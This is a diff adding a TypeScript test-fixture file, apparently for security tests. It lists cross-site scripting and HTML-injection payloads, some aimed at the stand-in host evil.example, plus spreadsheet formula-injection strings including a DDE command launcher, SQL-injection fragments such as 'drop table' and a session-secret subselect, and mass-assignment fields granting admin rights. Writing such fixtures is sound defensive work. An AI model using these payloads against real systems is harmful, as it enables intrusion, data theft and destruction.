@@ -1,0 +1,83 @@
+/** Thirty texts that would run, break out or ask for something where a page wrote them as they are. `harm` is what they do. */
+export const livePayloads: readonly string[] = [
+  '<script>window.harm=1</script>',
+  '"><script>window.harm=1</script>',
+  "'><img src=x onerror=window.harm=1>",
+  '<img src=x onerror="window.harm=1">',
+  '<svg onload=window.harm=1>',
+  '<svg><script href="data:,window.harm=1"/></svg>',
+  '</title><script>window.harm=1</script>',
+  '</textarea><script>window.harm=1</script>',
+  '</script><script>window.harm=1</script>',
+  '--><script>window.harm=1</script>',
+  ']]><script>window.harm=1</script>',
+  '" onmouseover="window.harm=1" x="',
+  "' onfocus='window.harm=1' autofocus x='",
+  '" autofocus onfocus=window.harm=1 x="',
+  '<a href="javascript:window.harm=1">x</a>',
+  'javascript:window.harm=1//<b>',
+  '<iframe srcdoc="<script>parent.harm=1</script>"></iframe>',
+  '<object data="data:text/html,<script>parent.harm=1</script>"></object>',
+  '<form action="https://evil.example"><input name=password></form>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<link rel=stylesheet href=https://evil.example/a.css>',
+  '<style>@import "https://evil.example/a.css";</style>',
+  '<div hx-get="/sign-out" hx-trigger="load">x</div>',
+  '<div x-data="{}" x-init="window.harm=1">x</div>',
+  '<details open ontoggle=window.harm=1>x</details>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=window.harm=1>',
+  '<template><script>window.harm=1</script></template>',
+  '{{constructor.constructor("window.harm=1")()}}<b>',
+  '<\u0000script>window.harm=1</script>\u2028<plaintext>',
+]
+
+/** What a spreadsheet would take for a formula. */
+export const formulas: readonly string[] = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  '=HYPERLINK("https://evil.example","x")',
+  "=cmd|' /C calc'!A0",
+  ' =1+1',
+  '\uff1d1+1',
+]
+
+/** What would leave its place in a statement. */
+export const sqlFragments: readonly string[] = [
+  "'",
+  '"',
+  "' or '1'='1",
+  "'; drop table papers; --",
+  "1' union select null, null --",
+  "') or 1=1 --",
+  '1; select pg_sleep(5)',
+  "' || (select secret from accounts_sessions) || '",
+  '%',
+  '\\',
+  '1e309',
+  '0x1',
+  '/**/or/**/1=1',
+  '`id`',
+  '$1',
+  '\u0000',
+]
+
+/** Fields that are nobody's to send. */
+export const extraFields: Readonly<Record<string, unknown>> = {
+  id: '01900000-0000-7000-8000-00000000dead',
+  role: 'admin',
+  is_admin: true,
+  isAdmin: true,
+  verified: true,
+  email_verified: true,
+  owner_id: '01900000-0000-7000-8000-00000000dead',
+  owner: 'eve',
+  person_id: '01900000-0000-7000-8000-00000000dead',
+  created_at: '1999-01-01T00:00:00.000Z',
+  updated_at: '1999-01-01T00:00:00.000Z',
+  deleted_at: '1999-01-01T00:00:00.000Z',
+  status: 'done',
+  permissions: ['house.administer'],
+}
